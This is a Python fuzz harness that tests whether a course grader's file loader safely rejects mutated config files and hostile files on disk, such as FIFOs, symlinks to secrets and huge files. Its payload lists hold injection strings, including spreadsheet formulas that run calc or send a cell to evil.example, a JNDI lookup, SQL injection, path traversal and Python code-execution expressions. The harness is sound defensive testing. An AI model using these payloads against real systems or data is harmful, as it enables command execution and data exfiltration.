"""Fuzz the loading boundary (grader/load.py): mutated `submission.toml`, `config.py` and `assignment.toml` files,
and hostile files on disk (FIFOs, links to /dev/zero or out of the folder, folders named like files, huge files).

Every case is written to disk and read through the grader's own entry points (`load_submission`, `load_assignment`,
`discover`). A case is *accepted* (it loads; an entry set apart — one bad entry fails only that entry — has a line
held to the same bar as an error line), a *clean rejection* (one safe error line: no line break, no control
character, at most grader.load.LINE characters, no instructor path), or a *crash* (an exception escaped, the
boundary caught a grader bug, or an error or set-apart line is unsafe). Also counted: *hangs* (over 5 s), *over 1
GB* (memory grew past 1 GiB: the worker's address space is capped there) and *executions* (a payload such as
`__import__('os').system('touch MARKER')` left its marker file). Mutation cases run in worker processes in chunks;
every hostile-file case runs in a fresh process under a timeout.

Usage: python benchmarks/fuzz.py --n 10000 [--seed 0]   (last line: `crashes: N`)
tests/test_fuzz.py runs the same generators, a few hundred cases per loader.
"""

from __future__ import annotations

import argparse
import json
import math
import os
import random
import re
import resource
import signal
import subprocess
import sys
import tempfile
import time
from collections import Counter
from pathlib import Path

import tomllib

ROOT = Path(__file__).resolve().parents[1]
SUBMISSIONS = ROOT / "submissions"
HANG_S = 5.0
GIB = 1 << 30
MARKER = "FUZZ_MARKER"
SPECIAL_BYTES = [b"\x00", b"\xff\xfe", b"\xef\xbb\xbf", b"\x1b[2J", b'"', b"[", b"]", b"{", b"=", b"\n", b"\\", b"'''",
                 b'"""', b"\r", b"#", b"\xc3", b"\xed\xa0\x80", b"\t"]  # fmt: skip

HOSTILE_STRINGS = [
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2-3", "@SUM(A1:A9)", "\t=1",
    "\r=1", "\x1b]0;PWNED\x07\x1b[2J", "\u202egnp.exe", "\x00", "\ufeff", "A" * 5000, "../../../etc/passwd",
    "{{ 7*7 }}", "<script>alert(1)</script>", "${jndi:ldap://x/a}", "'; DROP TABLE grades; --", "é",
    "\n[student]\nid = 'x'", "tok_0123456789abcdef", "s008", "",
]  # fmt: skip
CODE_PAYLOADS = [
    "__import__('os').system('touch {m}')", "open('{m}', 'w').close()", "exec(\"open('{m}', 'w')\")",
    "eval(\"__import__('os').system('touch {m}')\")", "os.system('touch {m}')",
    "(lambda: __import__('os').system('touch {m}'))()", "__import__('subprocess').call(['touch', '{m}'])",
    "().__class__.__base__.__subclasses__()", "globals()['__builtins__']['open']('{m}', 'w')",
    "breakpoint()", "getattr(__builtins__, 'exec')(\"open('{m}','w')\")", "[open('{m}','w') for _ in 'x']",
    "type('X', (), {'__del__': lambda s: open('{m}', 'w')})()", "lambda step: __import__('os').system('touch {m}')",
    "lambda step: open('{m}', 'w')", "10 ** 10 ** 10", "[0] * 10 ** 9", "'a' * 10 ** 10", "9" * 5000,
    "(" * 400 + "1" + ")" * 400, "-" * 2000 + "1", "[" * 300 + "]" * 300, "lambda step: 10 ** (step / 4690 * 6 - 5)",
    "40 if NUM_EPOCHS > 40 else 0", "{'type': 'StepLR', 1: 2}", "dict(type='StepLR', step_size=10 ** 100)",
    "dict(type=torch.optim.Adam, lr=1e-3)", "Path(__file__).parent / 'data'", "os.environ['DATA']", "f'{1}'",
    "{1, 2}", "{**{}}", "b'bytes'", "1j", "..."
]  # fmt: skip


def values() -> list:
    """Values of every TOML type, and the edges of each."""
    deep: list = []
    for _ in range(40):
        deep = [deep]
    return [0, -1, 1, 10**6, 2**63 - 1, -(2**63), 1.5, -0.1, 1e-320, 1e308, math.nan, math.inf, -math.inf, True,
            False, "0.1", "yes", "30", "sgd", "adam", "radam", "test", "staircase", [], [1, 2], [0.1, 0.2, 0.3], [[1]],
            {}, {"a": 1},
            {"name": "constant"}, {"name": "multistep", "milestones": [1] * 50, "gamma": 0.1}, deep,
            *HOSTILE_STRINGS]  # fmt: skip


# ---------------------------------------------------------------- generators (shared with tests/test_fuzz.py)


def toml_value(v: object) -> str:
    """Any tree as one inline TOML value (json escapes are valid TOML basic-string escapes)."""
    if isinstance(v, bool):
        return "true" if v else "false"
    if isinstance(v, float):
        return "nan" if math.isnan(v) else ("inf" if v > 0 else "-inf") if math.isinf(v) else repr(v)
    if isinstance(v, int):
        return str(v)
    if isinstance(v, str):
        return json.dumps(v)
    if isinstance(v, list | tuple):
        return "[" + ", ".join(toml_value(x) for x in v) + "]"
    if isinstance(v, dict):
        return "{ " + ", ".join(f"{json.dumps(str(k))} = {toml_value(x)}" for k, x in v.items()) + " }"
    return json.dumps(str(v))


def toml_doc(data: dict) -> str:
    return "".join(f"{json.dumps(str(k))} = {toml_value(v)}\n" for k, v in data.items())


def seeds(name: str) -> list[bytes]:
    if name == "assignment":
        return [(SUBMISSIONS / "assignment.toml").read_bytes()]
    if name == "legacy":
        course = (b"import os\nfrom pathlib import Path\nBATCH_SIZE = 128\nNUM_EPOCHS = 30\n"
                  b"LEARNING_RATE = 1e-6\nMOMENTUM = 0.9\nWEIGHT_DECAY = 5e-4\n"
                  b"LR_SCHEDULER = dict(type='LambdaLR', lr_lambda=lambda step: 10 ** (step / 4690 * 6 - 5))\n"
                  b"WARMUP = 40 if NUM_EPOCHS > 40 else 0\n"
                  b"try:\n    DATA = os.environ['DATA']\nexcept KeyError:\n    DATA = './data'\n")  # fmt: skip
        staircase = (b"BATCH_SIZE = 128\nNUM_EPOCHS = 10\nLEARNING_RATE = 1e-6\n"  # seed 000's sweep, 003's names
                     b"LR_SCHEDULER = dict(type='MultiStepLR', milestones=list(range(234, 4690, 234)), gamma=1.5,\n"
                     b"                    last_epoch=-1, verbose=config['NUM_EPOCHS'] > 0)\n")  # fmt: skip
        return [p.read_bytes() for p in sorted(SUBMISSIONS.glob("*/config.py"))] + [course, staircase]
    return [p.read_bytes() for p in sorted(SUBMISSIONS.glob("*/submission.toml"))]


def _bytes_mutation(rng: random.Random, data: bytes) -> bytes:
    b = bytearray(data)
    for _ in range(rng.randint(1, 8)):
        op, i = rng.randrange(6), rng.randrange(len(b) + 1)
        if op == 0 and b:  # flip a byte
            b[min(i, len(b) - 1)] = rng.randrange(256)
        elif op == 1:  # insert special bytes
            b[i:i] = rng.choice(SPECIAL_BYTES)
        elif op == 2:  # delete a span
            del b[i : i + rng.randint(1, 40)]
        elif op == 3:  # duplicate a span
            j = rng.randrange(len(b) + 1)
            b[i:i] = b[j : j + rng.randint(1, 200)]
        elif op == 4:  # truncate
            del b[i:]
        else:  # a hostile string in the text
            b[i:i] = rng.choice(HOSTILE_STRINGS).encode("utf-8", "surrogatepass")[:300]
    return bytes(b)


def _tree_mutation(rng: random.Random, data: object, depth: int = 0) -> object:
    """Replace, drop, rename or add one key somewhere in a parsed TOML tree."""
    if isinstance(data, dict) and data and (depth == 0 or rng.random() < 0.7):
        key = rng.choice(list(data))
        op = rng.randrange(6)
        if op == 0:
            data[key] = rng.choice(values())
        elif op == 1:
            del data[key]
        elif op == 2:  # a typo in the key
            k = list(key)
            if k:
                k[rng.randrange(len(k))] = rng.choice("aeiou_x")
            data["".join(k)] = data.pop(key)
        elif op == 3:
            data[rng.choice(["extra", "lerning_rate", "claimd_lr", "runs", "student", "id"])] = rng.choice(values())
        elif op == 4 and depth == 0 and isinstance(data[key], list):  # many entries (bounded: the file is capped)
            data[key] = (data[key] * rng.choice([2, 20, 200, 2000]))[:3000]
        else:
            data[key] = _tree_mutation(rng, data[key], depth + 1)
    elif isinstance(data, list) and data:
        i = rng.randrange(len(data))
        data[i] = _tree_mutation(rng, data[i], depth + 1)
    else:
        return rng.choice(values())
    return data


def toml_case(rng: random.Random, kind: str = "submission") -> bytes:
    """One mutated submission.toml (kind "submission") or assignment.toml (kind "assignment")."""
    base = rng.choice(seeds(kind))
    op = rng.randrange(4)
    if op == 0:
        return _bytes_mutation(rng, base)
    try:
        data = tomllib.loads(base.decode("utf-8"))
    except (tomllib.TOMLDecodeError, UnicodeDecodeError):
        return _bytes_mutation(rng, base)
    for _ in range(rng.randint(1, 4)):
        data = _tree_mutation(rng, data)
    if not isinstance(data, dict):
        data = {"student": data}
    text = toml_doc(data).encode("utf-8", "surrogatepass")
    if op == 3:
        text = _bytes_mutation(rng, text)
    return text[:600_000]


def legacy_case(rng: random.Random, marker: str = MARKER) -> bytes:
    """One mutated config.py: an assignment's right-hand side replaced by a payload or value, lines added, bytes
    mutated. Payloads that would run code touch `marker` (an absolute path) if ever executed."""
    lines = rng.choice(seeds("legacy")).decode("utf-8").splitlines()
    for _ in range(rng.randint(1, 4)):
        op = rng.randrange(4)
        payload = rng.choice(CODE_PAYLOADS).replace("{m}", marker)
        assigns = [i for i, line in enumerate(lines) if re.match(r"^[A-Za-z_]\w* *=", line)]
        if op == 0 and assigns:
            i = rng.choice(assigns)
            lines[i] = lines[i].split("=", 1)[0] + "= " + payload
        elif op == 1:
            name = rng.choice(["LEARNING_RATE", "NUM_EPOCHS", "BATCH_SIZE", "LR_SCHEDULER", "OPTIMIZER", "x", "LR"])
            lines.insert(rng.randrange(len(lines) + 1), f"{name} = {payload}")
        elif op == 2:
            lines.insert(rng.randrange(len(lines) + 1), payload)
        else:
            value = rng.choice(values())
            lines.insert(rng.randrange(len(lines) + 1), f"LEARNING_RATE = {value!r}")
    text = "\n".join(lines).encode("utf-8", "surrogatepass")
    return _bytes_mutation(rng, text) if rng.random() < 0.3 else text


# ---------------------------------------------------------------- one case through the boundary


class Hang(BaseException):
    """Raised by the alarm: not an Exception, so no `except Exception` in the grader can swallow it."""


def classify(error: str | None, internal: str | None, private: str) -> str:
    """accepted / clean / crash for a loader's outcome."""
    from grader.safe import LINE

    if internal:
        return "crash"
    if error is None:
        return "accepted"
    unsafe = "\n" in error or not error.isprintable() or len(error) > LINE or private in error
    return "crash" if unsafe else "clean"


def run_case(family: str, data: bytes, workdir: Path, timeout: float = HANG_S) -> tuple[str, str]:
    """Write the case under `workdir` and load it; (outcome, detail). Outcome: accepted, clean, crash, hang."""
    from grader.load import load_assignment, load_submission

    folder = workdir / "class" / "s1"
    folder.mkdir(parents=True, exist_ok=True)
    for f in folder.parent.iterdir():
        if f.is_file():
            f.unlink()
    for f in folder.iterdir():
        f.unlink()
    target = {"submission": folder / "submission.toml", "legacy": folder / "config.py",
              "assignment": folder.parent / "assignment.toml"}[family]  # fmt: skip
    target.write_bytes(data)
    old = signal.signal(signal.SIGALRM, _alarm)
    signal.setitimer(signal.ITIMER_REAL, timeout)
    try:
        if family == "assignment":
            try:
                load_assignment(folder.parent)
                return "accepted", ""
            except ValueError as err:
                return classify(str(err), False, str(folder.parent)), str(err)[:200]
        x = load_submission(folder)
        # an entry set apart (one bad entry fails only that entry) carries its own line: held to the same bar
        for why in [a.why for a in x.submission._apart.values()] if x.submission else []:
            if classify(why, None, str(folder.parent)) == "crash":
                return "crash", f"unsafe set-apart line: {why[:160]!r}"
        return classify(x.error, x.internal, str(folder.parent)), (x.internal or x.error or "")[:200]
    except Hang:
        return "hang", ""
    except Exception as err:  # noqa: BLE001 - exactly what the boundary must never let out
        return "crash", f"{type(err).__name__}: {str(err)[:160]}"
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, old)


def _alarm(signum, frame) -> None:
    raise Hang


def cap_memory(extra: int = GIB) -> None:
    """Address space capped at what this process maps now + `extra`: a case that allocates more fails."""
    vm = int(Path("/proc/self/status").read_text().split("VmSize:")[1].split()[0]) * 1024
    resource.setrlimit(resource.RLIMIT_AS, (vm + extra, vm + extra))


# ---------------------------------------------------------------- worker: a chunk of mutation cases


def worker(family: str, seed: int, start: int, stop: int) -> None:
    """Cases [start, stop) of a family, one JSON line each on stdout (the parent tallies them)."""
    import logging

    import grader.legacy  # noqa: F401 - imported before the memory cap
    import grader.load  # noqa: F401

    logging.disable(logging.CRITICAL)  # internal errors are tallied from the Loaded, not printed
    with tempfile.TemporaryDirectory() as tmp:
        work = Path(tmp)
        marker = work / MARKER
        os.chdir(work)  # anything a payload managed to run with a relative path lands here too
        cap_memory()
        for i in range(start, stop):
            rng = random.Random(f"{seed}:{family}:{i}")
            data = legacy_case(rng, str(marker)) if family == "legacy" else toml_case(rng, family)
            t = time.perf_counter()
            try:
                outcome, detail = run_case(family, data, work)
            except MemoryError:
                outcome, detail = "memory", ""
            executed = marker.exists() or any(p.name == MARKER for p in work.rglob(MARKER))
            if executed:
                marker.unlink(missing_ok=True)
            if outcome == "crash" and "MemoryError" in detail:
                outcome = "memory"
            print(json.dumps({"i": i, "outcome": outcome, "detail": detail, "executed": executed,
                              "s": round(time.perf_counter() - t, 3)}), flush=True)  # fmt: skip


def run_family(family: str, n: int, seed: int, chunk: int = 500) -> tuple[Counter, list[str]]:
    tally, notes = Counter(), []
    tally["slowest_ms"] = 0
    start = 0
    while start < n:
        stop = min(start + chunk, n)
        cmd = [sys.executable, __file__, "--worker", family, str(seed), str(start), str(stop)]
        proc = subprocess.run(cmd, capture_output=True, text=True, timeout=HANG_S * (stop - start) + 120, cwd=ROOT)
        done = start
        for line in proc.stdout.splitlines():
            r = json.loads(line)
            tally[r["outcome"]] += 1
            tally["executions"] += r["executed"]
            tally["slowest_ms"] = max(tally["slowest_ms"], round(1000 * r["s"]))
            done = r["i"] + 1
            if r["outcome"] not in ("accepted", "clean") and len(notes) < 10:
                notes.append(f"{family} #{r['i']}: {r['outcome']} {r['detail']}")
        if done < stop:  # the worker died on case `done`: a crash; carry on after it
            tally["crash"] += 1
            notes.append(f"{family} #{done}: worker died (rc {proc.returncode}): {proc.stderr.strip()[-200:]}")
            done += 1
        start = done
    return tally, notes


# ---------------------------------------------------------------- hostile files on disk, one process each


def hostile_cases(outside: Path) -> dict[str, callable]:
    """name → function(folder) that plants the hostile file in a fresh submission folder."""

    def write(name: str, data: bytes):
        return lambda d: (d / name).write_bytes(data)

    def sparse(d: Path) -> None:
        with open(d / "submission.toml", "wb") as f:
            f.truncate(20 * GIB)  # 20 GB on paper, nothing on disk

    deep = b"x = " + b"[" * 497 + b"]" * 497 + b"\n"
    good = (SUBMISSIONS / "s008-reproducible" / "submission.toml").read_bytes()
    return {
        "fifo submission.toml": lambda d: os.mkfifo(d / "submission.toml"),
        "fifo config.py": lambda d: os.mkfifo(d / "config.py"),
        "config.py -> /dev/zero": lambda d: os.symlink("/dev/zero", d / "config.py"),
        "submission.toml -> /dev/zero": lambda d: os.symlink("/dev/zero", d / "submission.toml"),
        "config.py -> /dev/urandom": lambda d: os.symlink("/dev/urandom", d / "config.py"),
        "config.py -> /": lambda d: os.symlink("/", d / "config.py"),
        "submission.toml -> secret outside": lambda d: os.symlink(outside / "secret.txt", d / "submission.toml"),
        "config.py -> secret outside": lambda d: os.symlink(outside / "secret.txt", d / "config.py"),
        "submission.toml -> ../../": lambda d: os.symlink("../..", d / "submission.toml"),
        "link loop": lambda d: os.symlink("submission.toml", d / "submission.toml"),
        "folder named submission.toml": lambda d: (d / "submission.toml").mkdir(),
        "folder named config.py": lambda d: (d / "config.py").mkdir(),
        "socket submission.toml": _socket,
        "20 GB sparse file": sparse,
        "2 MB submission.toml": write("submission.toml", good + b"#" * (2 << 20)),
        "3 MB config.py": write("config.py", b"LR = 0.1\n" + b"#" * (3 << 20)),
        "497-deep arrays": write("submission.toml", deep),
        "deep config.py": write("config.py", b"LR = " + b"(" * 5000 + b"1" + b")" * 5000 + b"\n"),
        "BOM": write("submission.toml", b"\xef\xbb\xbf" + good),
        "non-UTF-8": write("submission.toml", good.replace(b"Student", b"Jos\xe9", 1)),
        "control chars": write("submission.toml", good.replace(b'name = "Student', b'name = "\\u001b]0;PWNED\\u0007')),
        "formula name": write("submission.toml", good.replace(b'name = "Student', b"name = \"=cmd|' /C calc'!A0")),
        "NUL bytes": write("submission.toml", good.replace(b"\n", b"\x00\n", 3)),
        "non-table student": write("submission.toml", b'student = "alice"\n'),
        "16,000 range tests": write("submission.toml", b"range_test = [" + b", ".join(b'{name="r%d"}' % i for i in
                                    range(16000)) + b']\n[student]\nid = "s1"\nname = "x"\n'),  # fmt: skip
        "symlinked folder": "folder-link",
    }  # fmt: skip


def _socket(d: Path) -> None:
    import socket

    s = socket.socket(socket.AF_UNIX)
    s.bind(str(d / "submission.toml"))


def hostile(name: str) -> None:
    """Child process: plant one hostile case in a class folder, then discover + load it (prints the outcome)."""
    from grader.load import discover, load_class

    with tempfile.TemporaryDirectory() as tmp:
        outside, root = Path(tmp) / "outside", Path(tmp) / "class"
        outside.mkdir()
        root.mkdir()
        (outside / "secret.txt").write_text("GRADESCOPE_TOKEN=tok_0123456789abcdef\n")
        plant = hostile_cases(outside)[name]
        if plant == "folder-link":
            target = outside / "s1"
            target.mkdir()
            (target / "submission.toml").write_bytes((SUBMISSIONS / "s008-reproducible/submission.toml").read_bytes())
            os.symlink(target, root / "s1")
        else:
            (root / "s1").mkdir()
            plant(root / "s1")
        cap_memory()
        started = time.perf_counter()
        x = load_class(discover(root))[0]
        seconds = time.perf_counter() - started
        outcome = classify(x.error, x.internal, tmp)
        leaked = "tok_" in (x.error or "") + " ".join(x.warnings)
        detail = x.error or f"loaded as {x.id!r} (names are neutralised where they are written)"
        print(json.dumps({"outcome": "crash" if leaked else outcome, "detail": detail, "s": seconds}))


def run_hostile() -> tuple[Counter, list[str]]:
    tally, lines = Counter(slowest_ms=0), []
    for name in hostile_cases(Path("/nonexistent")):
        cmd = [sys.executable, __file__, "--hostile", name]
        try:
            proc = subprocess.run(cmd, capture_output=True, text=True, timeout=HANG_S + 30, cwd=ROOT)
            out = json.loads(proc.stdout.strip().splitlines()[-1]) if proc.returncode == 0 else None
        except subprocess.TimeoutExpired:
            out = {"outcome": "hang", "detail": "timed out"}
        except (json.JSONDecodeError, IndexError):
            out = None
        if out is None:
            out = {"outcome": "crash", "detail": f"rc {proc.returncode}: {proc.stderr.strip()[-200:]}"}
        tally[out["outcome"]] += 1
        tally["slowest_ms"] = max(tally["slowest_ms"], round(1000 * out.get("s", 0)))
        lines.append(f"  {name:36} {out['outcome']:9} {out['detail'][:110]}")
    return tally, lines


# ---------------------------------------------------------------- main


def main() -> None:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--n", type=int, default=10_000, help="mutation cases in all (split over the three file kinds)")
    p.add_argument("--seed", type=int, default=0)
    p.add_argument("--worker", nargs=4, help=argparse.SUPPRESS)
    p.add_argument("--hostile", help=argparse.SUPPRESS)
    args = p.parse_args()
    if args.worker:
        family, seed, start, stop = args.worker
        return worker(family, int(seed), int(start), int(stop))
    if args.hostile:
        return hostile(args.hostile)
    started = time.perf_counter()
    shares = {"submission": args.n * 45 // 100, "legacy": args.n * 45 // 100}
    shares["assignment"] = args.n - sum(shares.values())
    rows, notes, total = [], [], Counter()
    for family, n in shares.items():
        t = time.perf_counter()
        tally, bad = run_family(family, n, args.seed)
        rows.append((f"{family} mutations", n, tally, time.perf_counter() - t))
        notes += bad
        total.update(tally)
    t = time.perf_counter()
    tally, hostile_lines = run_hostile()
    rows.append(("hostile files on disk", len(hostile_lines), tally, time.perf_counter() - t))
    total.update(tally)
    total["slowest_ms"] = 0
    cols = ["accepted", "clean", "crash", "hang", "memory", "executions", "slowest_ms"]
    print(
        f"fuzz: seed {args.seed}, {args.n:,} mutation cases + {rows[-1][1]} hostile files; python "
        f"{sys.version.split()[0]}; hang = over {HANG_S:g} s, memory = over 1 GiB more than the loader's baseline, "
        "slowest_ms = the slowest single load"
    )
    print(f"{'family':24} {'cases':>6} " + " ".join(f"{c:>10}" for c in cols) + f" {'wall s':>7}")
    for name, n, tally, wall in rows:
        print(f"{name:24} {n:6} " + " ".join(f"{tally[c]:10}" for c in cols) + f" {wall:7.1f}")
    print("hostile files, one process each:")
    print("\n".join(hostile_lines))
    if notes:
        print("first problems:")
        print("\n".join(f"  {n}" for n in notes))
    print(
        f"accepted: {total['accepted']}, clean rejections: {total['clean']}, hangs: {total['hang']}, "
        f"over 1 GB: {total['memory']}, executions: {total['executions']}; {time.perf_counter() - started:.0f} s"
    )
    print(f"crashes: {total['crash']}")


if __name__ == "__main__":
    main()
